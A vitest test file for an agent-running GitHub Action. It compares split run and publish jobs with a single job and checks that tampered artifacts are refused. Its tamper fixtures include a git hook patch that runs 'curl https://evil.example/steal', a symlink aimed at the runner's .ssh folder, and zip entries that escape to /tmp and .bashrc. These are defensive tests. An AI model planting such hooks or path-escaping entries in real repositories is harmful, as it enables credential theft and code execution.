/**
 * Issue #6: `phase: run` in one job, `phase: publish` in a later job of the
 * same workflow run, compared with `phase: all`; tampered artifacts refused.
 */
import { existsSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startLoopbackServer, sendJson, type LoopbackServer } from "../support/fake-github-http.js";
import { startFakeActionsResults, type FakeActionsResults } from "../support/fake-actions-results.js";
import { FIXTURE_REPO } from "../support/events.js";
import { scenario, type Scenario } from "../github/scenario.js";
import { agentScript, cloneRepo, errors, git, makeRepo, REPOSITORY, RUN_ID, runJob } from "./helpers.js";

let results: FakeActionsResults;
/** Stands in for api.github.com: records whatever the action sends. */
let api: LoopbackServer;
beforeAll(async () => {
  results = await startFakeActionsResults({ repository: REPOSITORY });
  api = await startLoopbackServer(({ res }) => {
    sendJson(res, 404, { message: "Not Found" });
    return 404;
  });
});
afterAll(async () => {
  await results?.close();
  await api?.close();
});

const AGENT = [
  'echo "two" >> edit.txt',
  "rm gone.txt",
  'echo "brand new" > src/new.txt',
  "seq 1 2000 | gzip -n > blob.bin",
  "ln -s ../edit.txt src/link-to-edit",
  'echo "report" > "$AGENT_OUTPUT_DIR/report.md"',
  "echo all changed",
].join("\n");

const FILES = { "edit.txt": "one\n", "gone.txt": "bye\n", "src/keep.txt": "k\n" };

const deliveryOutputs = (o: Record<string, string>) => ({
  conclusion: o.conclusion,
  "final-message": o["final-message"],
  "changed-files": JSON.parse(o["changed-files"] ?? "[]").sort(),
  usage: o.usage,
});

describe("two phases", () => {
  it("phase run then phase publish delivers what phase all delivers", async () => {
    const origin = makeRepo(FILES);
    const inputs = { agent: "command", "agent-command": agentScript(AGENT), prompt: "change", sandbox: "none" };
    const env = { GITHUB_API_URL: api.url };

    // Workflow run A: one job, phase all.
    const allWs = cloneRepo(origin);
    const all = await runJob({ results, workspace: allWs, runtime: { runId: RUN_ID + 10, job: "agent" }, env, inputs });
    expect(errors(all), all.log + all.stderr).toEqual([]);

    // Workflow run B: job "agent" runs, job "publish" (fresh checkout) delivers.
    const requestsBefore = api.requests.length;
    const runWs = cloneRepo(origin);
    const run = await runJob({ results, workspace: runWs, runtime: { runId: RUN_ID + 11, job: "agent" }, env, inputs: { ...inputs, phase: "run" } });
    expect(errors(run), run.log + run.stderr).toEqual([]);
    expect(run.exitCode, run.log + run.stderr).toBe(0);
    // phase run writes nothing to GitHub: the only thing it sends anywhere is the artifact.
    expect(api.requests.slice(requestsBefore).filter((r) => r.method !== "GET")).toEqual([]);
    const [uploaded] = results.artifacts({ runId: RUN_ID + 11 });
    expect(uploaded?.name).toBe(`agent-run-${RUN_ID + 11}-1`);
    expect(run.outputs["artifact-id"]).toBe(String(uploaded!.id));

    const publishWs = cloneRepo(origin);
    const publish = await runJob({
      results,
      workspace: publishWs,
      runtime: { runId: RUN_ID + 11, job: "publish" },
      env,
      // A publish step gets no agent settings beyond what it needs: no prompt, no command.
      inputs: { agent: "command", "agent-command": "false", phase: "publish" },
    });
    expect(errors(publish), publish.log + publish.stderr).toEqual([]);
    expect(publish.exitCode, publish.log + publish.stderr).toBe(0);
    expect(publish.log).toContain(`downloaded 'agent-run-${RUN_ID + 11}-1'`);
    expect(publish.log).toMatch(/applies cleanly to [0-9a-f]{12}/);
    expect(deliveryOutputs(publish.outputs)).toEqual(deliveryOutputs(all.outputs));
    expect(deliveryOutputs(publish.outputs)["changed-files"]).toEqual(["blob.bin", "edit.txt", "gone.txt", "src/link-to-edit", "src/new.txt"]);
    expect(publish.outputs["artifact-id"]).toBe(String(uploaded!.id));
    // The same patch, byte for byte, and it reproduces the agent's tree on the publish checkout.
    const patch = readFileSync(publish.outputs["patch-path"]!);
    expect(patch.equals(readFileSync(all.outputs["patch-path"]!))).toBe(true);
    git(publishWs, "apply", "--binary", publish.outputs["patch-path"]!);
    expect(readFileSync(`${publishWs}/blob.bin`).equals(readFileSync(`${runWs}/blob.bin`))).toBe(true);
    expect(publish.summary).toContain(`agent-run-${RUN_ID + 11}-1`);
  });

  it("publish without a run artifact says what to fix", async () => {
    const ws = makeRepo(FILES);
    const publish = await runJob({
      results,
      workspace: ws,
      runtime: { runId: RUN_ID + 12, job: "publish" },
      inputs: { agent: "command", "agent-command": "false", phase: "publish", "artifact-name": "nope" },
    });
    expect(publish.exitCode).toBe(1);
    expect(errors(publish).join("\n")).toContain("Input 'artifact-name': no artifact 'nope' in this workflow run");
  });

  describe("a tampered artifact is refused", () => {
    const origin = makeRepo(FILES);
    const base = git(origin, "rev-parse", "HEAD").trim();
    const tree = git(origin, "rev-parse", "HEAD^{tree}").trim();
    const resultJson = (changedFiles: string[]) =>
      JSON.stringify({
        conclusion: "success",
        agentName: "command",
        agentBackend: "command",
        sandboxBackend: "none",
        command: ["agent"],
        returncode: 0,
        output: "done",
        stdoutPath: "/x/raw/stdout.jsonl",
        stderrPath: "/x/raw/stderr.log",
        tracePath: "/x/trace.jsonl",
        eventCount: 1,
        toolCalls: 0,
        numTurns: 0,
        permissionDenials: [],
        networkBlocked: 0,
        usage: { inputTokens: 0, outputTokens: 0, cachedTokens: 0 },
        startedAt: new Date().toISOString(),
        durationMs: 5,
        diff: { baseCommit: base, baseTree: tree, patchPath: "/x/patch.diff", changedFiles, agentCommits: [] },
        artifacts: [],
        metadata: {},
      });
    const hook = [
      "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout",
      "new file mode 100755",
      "index 0000000..3b18e51",
      "--- /dev/null",
      "+++ b/.git/hooks/post-checkout",
      "@@ -0,0 +1,2 @@",
      "+#!/bin/sh",
      "+curl https://evil.example/steal",
      "",
    ].join("\n");
    const symlink = [
      "diff --git a/docs/escape b/docs/escape",
      "new file mode 120000",
      "index 0000000..b7d2a4f",
      "--- /dev/null",
      "+++ b/docs/escape",
      "@@ -0,0 +1 @@",
      "+../../../../home/runner/.ssh",
      "\\ No newline at end of file",
      "",
    ].join("\n");
    const workflow = [
      "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml",
      "new file mode 100644",
      "index 0000000..1111111",
      "--- /dev/null",
      "+++ b/.github/workflows/ci.yml",
      "@@ -0,0 +1 @@",
      "+on: push",
      "",
    ].join("\n");
    const stale = ["diff --git a/edit.txt b/edit.txt", "index 1111111..2222222 100644", "--- a/edit.txt", "+++ b/edit.txt", "@@ -1 +1 @@", "-not what is there", "+x", ""].join("\n");

    /** A publish job (fresh checkout) of workflow run `runId`, whose run job uploaded `files`. */
    async function publishTampered(runId: number, files: Record<string, string>) {
      const artifact = results.addArtifact({ name: `agent-run-${runId}-1`, runId, repository: REPOSITORY, files });
      const ws = cloneRepo(origin);
      const publish = await runJob({
        results,
        workspace: ws,
        runtime: { runId, job: "publish" },
        // The patch rules' refusal alone: threat detection would add its own hold for a link out of the
        // repository (a protected change, test/security/threats.e2e.test.ts), which withholds the final message.
        inputs: { agent: "command", "agent-command": "false", phase: "publish", "threat-detection": "none" },
      });
      return { artifact, ws, publish };
    }

    // [label, patch, changed files result.json claims, changed files the patch really names, message]
    const cases: Array<[string, string, string[], string[], RegExp]> = [
      ["a hook under .git/", hook, [], [".git/hooks/post-checkout"], /'\.git\/hooks\/post-checkout' is inside a \.git folder/],
      ["a symlink leaving the repository", symlink, ["docs/escape"], ["docs/escape"], /symlink 'docs\/escape' → '\.\.\/\.\.\/\.\.\/\.\.\/home\/runner\/\.ssh' points outside the repository/],
      ["a workflow file", workflow, ["README.md"], [".github/workflows/ci.yml"], /changes workflow files \(\.github\/workflows\/ci\.yml\); set 'allow-workflow-changes: true'/],
      ["a patch that does not apply to the recorded base commit", stale, ["edit.txt"], ["edit.txt"], new RegExp(`does not apply cleanly to the base commit ${base.slice(0, 12)}`)],
    ];
    let n = 20;
    for (const [label, patch, claimed, named, message] of cases) {
      const runId = RUN_ID + n++;
      it(`with ${label}`, async () => {
        const { artifact, ws, publish } = await publishTampered(runId, { "result.json": resultJson(claimed), "patch.diff": patch });
        expect(publish.exitCode).toBe(1);
        const [error] = errors(publish);
        expect(error).toContain(`The patch from artifact 'agent-run-${runId}-1' was refused`);
        expect(error).toMatch(message);
        expect(error).not.toContain("this is a bug");
        expect(git(ws, "status", "--porcelain")).toBe("");
        // Refused, the run still reports before the step fails: outputs, with the files the
        // patch names (never result.json's claim), and a summary saying why nothing was delivered.
        expect(publish.outputs.conclusion).toBe("failure");
        expect(publish.outputs["final-message"]).toBe("done");
        expect(JSON.parse(publish.outputs["changed-files"]!)).toEqual(named);
        expect(publish.outputs["artifact-id"]).toBe(String(artifact.id));
        expect(publish.outputs["patch-path"]).toMatch(/patch\.diff$/);
        expect(publish.state.finished).toBe("true");
        expect(publish.summary).toMatch(/^## ❌ Agent Runner: the changes were refused$/m);
        expect(publish.summary).toContain(`### Changed files (${named.length})`);
        expect(publish.summary).toContain("- ❌ Not delivered: the patch was refused.");
        expect(publish.summary).toContain(`text\n${error!.split("\n")[0]}`);
      });
    }

    it("with a zip entry that tries to climb out of the download folder", async () => {
      const runId = RUN_ID + 32;
      const marker = `escaped-${process.pid}-${runId}.txt`;
      const { publish } = await publishTampered(runId, {
        "result.json": resultJson([]),
        "patch.diff": "",
        [`../../../../../../../../../tmp/${marker}`]: "pwned",
        "../.bashrc": "evil",
      });
      expect(publish.exitCode).toBe(1);
      expect(errors(publish)[0]).toMatch(/The artifact 'agent-run-\d+-1' was refused: the entry '\.\.\/.*' is not a plain relative path/);
      expect(existsSync(`/tmp/${marker}`)).toBe(false);
      // Nothing from the artifact was used: no result, so no outputs.
      expect(publish.outputs).toEqual({});
    });

    it("with a result.json of the wrong shape", async () => {
      const { publish } = await publishTampered(RUN_ID + 30, { "result.json": '{"conclusion":"great"}', "patch.diff": "" });
      expect(publish.exitCode).toBe(1);
      expect(errors(publish)[0]).toMatch(/The artifact 'agent-run-\d+-1' is not a usable Agent Runner run artifact: result\.json does not have the expected shape \(conclusion: /);
      expect(publish.outputs).toEqual({});
    });
  });
});

describe("two phases delivered through GitHub", () => {
  const scenarios: Scenario[] = [];
  const services: FakeActionsResults[] = [];
  afterAll(async () => {
    for (const sc of scenarios) await sc.close();
    for (const r of services) await r.close();
  });

  it("phase run in a read-only job, then phase publish, opens the same pull request as phase all", async () => {
    const agent = `sed -i 's/Teh/The/' README.md\nmkdir -p docs && echo "typo fixed" > docs/NOTES.md\necho "Fixed the typo."`;
    const world = async () => {
      const r = await startFakeActionsResults({ repository: FIXTURE_REPO });
      const sc = await scenario({ fixture: "issue_comment.issue", agent });
      services.push(r);
      scenarios.push(sc);
      return { r, sc, env: (job: string) => r.runtimeEnv({ runId: 4242, job, github: sc.gh, repository: FIXTURE_REPO }) };
    };

    // One job, phase all.
    const a = await world();
    const all = await a.sc.run({}, a.env("agent"));
    expect(errors(all), all.log + all.stderr).toEqual([]);
    expect(all.outputs["pull-request-number"]).toBeDefined();

    // The reusable workflow's shape: a run job without delivery or comments, then a publish job.
    const b = await world();
    const run = await b.sc.run({ phase: "run", comment: "none", deliver: "none" }, b.env("agent"));
    expect(errors(run)).toEqual([]);
    expect(b.sc.gh.pulls()).toEqual([]);
    expect(b.sc.gh.writes().map((w) => `${w.method} ${w.path}`)).toEqual([]);
    const publish = await b.sc.run({ phase: "publish" }, b.env("publish"));
    expect(errors(publish)).toEqual([]);
    expect(b.sc.agentRuns()).toBe(1);

    // The same delivery: same branch with the same tree, the same pull request, the same outputs.
    for (const key of ["conclusion", "final-message", "changed-files", "branch"]) expect(publish.outputs[key], key).toBe(all.outputs[key]);
    const branch = all.outputs.branch!;
    expect(git(b.sc.repo.origin, "rev-parse", `${branch}^{tree}`)).toBe(git(a.sc.repo.origin, "rev-parse", `${branch}^{tree}`));
    const [prA] = a.sc.gh.pulls();
    const [prB] = b.sc.gh.pulls();
    expect({ title: prB!.title, head: prB!.head.ref, base: prB!.base.ref, draft: prB!.draft }).toEqual({ title: prA!.title, head: prA!.head.ref, base: prA!.base.ref, draft: prA!.draft });
    expect(prB!.body).toMatch(/^Closes #7\n/);
    expect(publish.summary).toContain(`agent-run-4242-1`);
    // The publish job, which holds the write token, is the one that reacts and reports on the thread.
    expect(b.sc.gh.reactions({ subject: "issue_comment" }).map((r) => r.content)).toEqual(["eyes"]);
    const comments = b.sc.gh.issueComments(7).filter((c) => c.user === "github-actions[bot]");
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain(`#${prB!.number}`);
  });
});

